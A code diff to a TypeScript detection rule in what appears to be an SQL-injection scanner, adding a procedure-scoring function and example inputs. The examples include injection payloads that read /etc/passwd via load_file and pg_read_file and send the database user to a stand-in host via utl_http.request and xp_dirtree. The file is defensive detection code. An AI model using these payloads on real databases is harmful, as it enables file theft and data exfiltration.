@@ -1,8 +1,21 @@
-import { isQuote, type SqlTokens, skipComments, sqlToken } from '../../tokenise/sql.ts';
+import {
+  isQuote,
+  isWordOf,
+  type SqlTokens,
+  skipComments,
+  sqlToken,
+} from '../../tokenise/sql-token.ts';
+import { sqlWord } from '../../tokenise/sql-words.ts';
 import type { ValueRule } from '../rule.ts';
-import { hasAny } from './evidence.ts';
-import { type Call, outsideClasses, sqlArgument, strongestCall } from './function-call.ts';
-import { sqlTrigger } from './trigger.ts';
+import { hasAny, isStatementEnd } from './evidence.ts';
+import {
+  type Call,
+  isMentioned,
+  outsideClasses,
+  sqlArgument,
+  strongestCall,
+} from './function-call.ts';
+import { outsideTrigger } from './trigger.ts';
 
 /** `load_file('/etc/passwd')`, `utl_http.request('http://x/'||user)`, `xp_dirtree '\\x\a'`. */
 export const outOfBand: ValueRule = {
@@ -12,17 +25,38 @@ export const outOfBand: ValueRule = {
   severity: 'critical',
   score: 90,
   message: 'makes the database read or write a file or reach another machine',
-  trigger: sqlTrigger,
+  trigger: outsideTrigger,
   judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
-  examples: [],
-  lookalikes: [],
+  examples: [
+    "1 union select load_file('/etc/passwd')",
+    "'||utl_http.request('http://collect.example/'||user)||'",
+    "exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'",
+    "1 and pg_read_file('/etc/passwd')='x'",
+  ],
+  lookalikes: [
+    'The xp_cmdshell procedure is off by default.',
+    'load_file and dblink are names of functions',
+    'Call readfile to read a file',
+  ],
 };
 
 function scoreOf(call: Call, tokens: SqlTokens): number {
+  if (call.wordClass === sqlWord.serverProcedure) return scoreProcedure(call, tokens);
+  if (isMentioned(call, tokens)) return 50;
   const next = skipComments(tokens, call.at + 1);
   if (tokens.kind[next] === sqlToken.dot)
     return hasAny(call.expression, sqlArgument) || call.expression.operands > 0 ? 90 : 60;
   const first = tokens.kind[skipComments(tokens, next + 1)] as number;
   if (isQuote(first) || first === sqlToken.number) return 90;
   return hasAny(call.expression, sqlArgument) ? 90 : 50;
+}
+
+/** SQL names its procedures after EXEC or a database, or gives them a literal. */
+function scoreProcedure(call: Call, tokens: SqlTokens): number {
+  const isExec =
+    isWordOf(tokens, call.before, sqlWord.exec) || tokens.kind[call.before] === sqlToken.dot;
+  const next = skipComments(tokens, call.at + 1);
+  const hasLiteral = isQuote(tokens.kind[next] as number) && tokens.gap[call.at + 1] === 1;
+  if (isExec) return hasLiteral || isStatementEnd(tokens.kind[next] as number) ? 92 : 75;
+  return hasLiteral && tokens.kind[next] !== sqlToken.backtick ? 80 : 40;
 }
